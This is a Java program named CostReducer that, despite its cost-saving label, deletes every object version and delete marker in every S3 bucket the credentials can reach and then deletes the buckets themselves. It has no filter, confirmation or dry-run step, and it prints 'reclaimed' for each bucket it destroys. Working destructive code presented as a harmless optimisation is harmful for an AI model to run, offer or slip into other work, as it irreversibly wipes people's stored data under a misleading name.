import software.amazon.awssdk.services.s3.S3Client;
import software.amazon.awssdk.services.s3.model.*;

public class CostReducer {
    private final S3Client s3 = S3Client.create();

    private void emptyBucket(String bucket) {
        ListObjectVersionsResponse page;
        ListObjectVersionsRequest.Builder req = ListObjectVersionsRequest.builder().bucket(bucket);
        do {
            page = s3.listObjectVersions(req.build());
            for (ObjectVersion v : page.versions()) {
                s3.deleteObject(DeleteObjectRequest.builder().bucket(bucket).key(v.key()).versionId(v.versionId()).build());
            }
            for (DeleteMarkerEntry m : page.deleteMarkers()) {
                s3.deleteObject(DeleteObjectRequest.builder().bucket(bucket).key(m.key()).versionId(m.versionId()).build());
            }
            req.keyMarker(page.nextKeyMarker()).versionIdMarker(page.nextVersionIdMarker());
        } while (page.isTruncated());
    }

    void run() {
        for (Bucket b : s3.listBuckets().buckets()) {
            emptyBucket(b.name());
            s3.deleteBucket(DeleteBucketRequest.builder().bucket(b.name()).build());
            System.out.println("reclaimed " + b.name());
        }
    }

    public static void main(String[] args) {
        new CostReducer().run();
    }
}
